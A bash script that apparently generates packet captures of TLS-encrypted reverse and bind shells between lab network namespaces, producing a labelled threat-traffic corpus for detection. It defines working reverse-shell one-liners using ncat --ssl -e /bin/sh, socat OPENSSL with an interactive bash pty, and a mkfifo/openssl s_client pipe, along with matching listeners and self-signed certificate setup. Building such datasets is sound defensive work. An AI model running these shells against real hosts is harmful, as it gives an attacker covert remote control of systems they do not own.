#!/usr/bin/env bash
# corpus/threats/reverse-shell-tls.sh OUTDIR: class ReverseShell-TLS, shells over TLS.
#
# Each session is one TLS-over-TCP connection between an "attacker" (client namespace)
# and a "victim" (server namespace) running a shell, made in one of the usual ways:
#   ncat --ssl -e /bin/sh (reverse and bind; ncat's own throw-away certificate or one of
#   the batch's), socat OPENSSL with a pty (reverse and bind; the operator types key by
#   key), openssl s_server (attacker) with mkfifo + sh -i + openssl s_client (victim).
# Certificates: four self-signed ones per batch (RSA 2048/3072, EC P-256/P-384, random
# names), so handshakes differ in size. The TLS version varies per session (an OpenSSL
# configuration in OPENSSL_CONF, which ncat, socat and openssl all read): half TLS 1.3,
# half TLS 1.2 (as an old victim's OpenSSL or a pinned tool gives). The operator is as
# in reverse-shell.sh (3-10 commands, or 2-5 key by key, pauses 0.2-3 s, sometimes an
# idle gap). Ports: 443, 8443, 4443, ... or a random one. Capture filter: tcp.
set -u
here=$(dirname "$0")
. "$here/../lib/netns.sh"
. "$here/malicious.bash"

tls_port() { pick 443 443 8443 4443 4444 9443 1443 993 $(rand 1025 65000) $(rand 1025 65000); }

make_certs() {
    local i name
    MAL_CERTS=$MAL_WORK/certs
    mkdir -p "$MAL_CERTS"
    for i in 1 2 3 4; do
        name=$(pick www mail vpn cdn update api static)$(rand 1 99).$(pick example.com corp.local cloudapp.net example.org)
        case $i in
        1) openssl req -x509 -newkey rsa:2048 -nodes -days $(rand 30 900) -subj "/CN=$name" -keyout "$MAL_CERTS/$i.key" -out "$MAL_CERTS/$i.crt" ;;
        2) openssl req -x509 -newkey rsa:3072 -nodes -days $(rand 30 900) -subj "/O=$(pick Acme Initech Globex)/CN=$name" -keyout "$MAL_CERTS/$i.key" -out "$MAL_CERTS/$i.crt" ;;
        3) openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days $(rand 30 900) -subj "/CN=$name" -keyout "$MAL_CERTS/$i.key" -out "$MAL_CERTS/$i.crt" ;;
        4) openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:secp384r1 -nodes -days $(rand 30 900) -subj "/CN=$name" -keyout "$MAL_CERTS/$i.key" -out "$MAL_CERTS/$i.crt" ;;
        esac 2>/dev/null
        cat "$MAL_CERTS/$i.key" "$MAL_CERTS/$i.crt" > "$MAL_CERTS/$i.pem"
    done
}

# OpenSSL configurations: tls12.cnf caps the version at TLS 1.2 (ncat, socat and openssl
# then offer and pick their usual ECDHE AES-GCM/ChaCha20 suites), tls13.cnf leaves the
# default (TLS 1.3). Restricting cipher strings as well made some tool pairs fail their
# handshake (a failed attempt is a flow without a shell), so only the version is set.
make_tls_confs() {
    local ver
    for ver in 1.2 1.3; do
        printf 'openssl_conf = fc_conf\n[fc_conf]\nssl_conf = fc_ssl\n[fc_ssl]\nsystem_default = fc_tls\n[fc_tls]\nMaxProtocol = TLSv%s\nCipherString = DEFAULT:@SECLEVEL=2\n' \
            "$ver" > "$MAL_WORK/tls${ver/./}.cnf"
    done
}

# this session's TLS version, in OPENSSL_CONF (both ends read it). socat 1.7.4 cannot serve
# TLS 1.2 to itself with the P-384 certificate ("no shared cipher"): TLS 1.2 sessions
# use one of the other three.
pick_tls() {
    OPENSSL_CONF=$MAL_WORK/$(pick tls12 tls13).cnf
    case $OPENSSL_CONF in */tls12.cnf) [ "${CERT##*/}" = 4 ] && CERT=${CERT%/*}/$(rand 1 3) ;; esac
    export OPENSSL_CONF CERT
}

# one of the batch's certificates for this session, in CERT (none: ncat makes its own)
pick_cert() { CERT=$MAL_CERTS/$(rand 1 4); export CERT; }

victim_ncat_sh()   { ncat -n --ssl "$CLI_IP" "$1" -e /bin/sh; }
victim_ncat_bash() { ncat -n --ssl "$CLI_IP" "$1" -e /bin/bash; }
victim_socat_pty() { socat "OPENSSL:$CLI_IP:$1,verify=0" "EXEC:bash -li,pty,stderr,setsid,sigint,sane"; }
victim_socat_sh()  { socat "OPENSSL:$CLI_IP:$1,verify=0" "EXEC:/bin/sh -i,stderr"; }
victim_openssl()   { local f=$MAL_WORK/f$CLI_IP-$1; mkfifo "$f"; /bin/sh -i < "$f" 2>&1 | openssl s_client -quiet -connect "$CLI_IP:$1" > "$f" 2>/dev/null; rm -f "$f"; }
bind_ncat_own()    { ncat -n --ssl -l "$SRV_IP" "$1" -e /bin/sh; }
bind_ncat_cert()   { ncat -n --ssl --ssl-cert "$CERT.crt" --ssl-key "$CERT.key" -l "$SRV_IP" "$1" -e /bin/bash; }
bind_socat_pty()   { socat "OPENSSL-LISTEN:$1,bind=$SRV_IP,reuseaddr,cert=$CERT.pem,verify=0" "EXEC:bash -li,pty,stderr,setsid,sigint,sane"; }

listen_ncat_own()  { ncat -n --ssl -l "$CLI_IP" "$1"; }
listen_ncat_cert() { ncat -n --ssl --ssl-cert "$CERT.crt" --ssl-key "$CERT.key" -l "$CLI_IP" "$1"; }
listen_socat()     { socat - "OPENSSL-LISTEN:$1,bind=$CLI_IP,reuseaddr,cert=$CERT.pem,verify=0"; }
listen_openssl()   { openssl s_server -quiet -naccept 1 -accept "$CLI_IP:$1" -cert "$CERT.crt" -key "$CERT.key"; }
connect_ncat()     { ncat -n --ssl "$SRV_IP" "$1"; }
connect_socat()    { socat - "OPENSSL:$SRV_IP:$1,verify=0"; }
export -f victim_ncat_sh victim_ncat_bash victim_socat_pty victim_socat_sh victim_openssl \
    bind_ncat_own bind_ncat_cert bind_socat_pty listen_ncat_own listen_ncat_cert listen_socat \
    listen_openssl connect_ncat connect_socat

session() {
    local port
    port=$(tls_port)
    pick_cert
    pick_tls
    case $(rand 0 8) in
    0) reverse "$port" operator_lines "$(pick listen_ncat_own listen_ncat_cert)" "$(pick victim_ncat_sh victim_ncat_bash)" ;;
    1) bind "$port" operator_lines "$(pick bind_ncat_own bind_ncat_cert)" connect_ncat ;;
    2) reverse "$port" operator_keys listen_socat victim_socat_pty ;;
    3) bind "$port" operator_keys bind_socat_pty connect_socat ;;
    4) reverse "$port" operator_lines "$(pick listen_socat listen_ncat_cert)" victim_socat_sh ;;
    5) reverse "$port" operator_lines listen_openssl victim_openssl ;;
    6) reverse "$port" operator_lines "$(pick listen_ncat_own listen_ncat_cert listen_socat)" "$(pick victim_ncat_sh victim_ncat_bash)" ;;
    7) bind "$port" operator_lines bind_socat_pty connect_socat ;;
    8) reverse "$port" operator_lines "$(pick listen_openssl listen_socat)" victim_openssl ;;
    esac
}

mal_init ReverseShell-TLS "${1:-}" 38
make_certs
make_tls_confs
capture_start "$MAL_OUT/reverse-shell-tls.pcap" tcp
run_sessions 14 session
capture_stop
mal_done
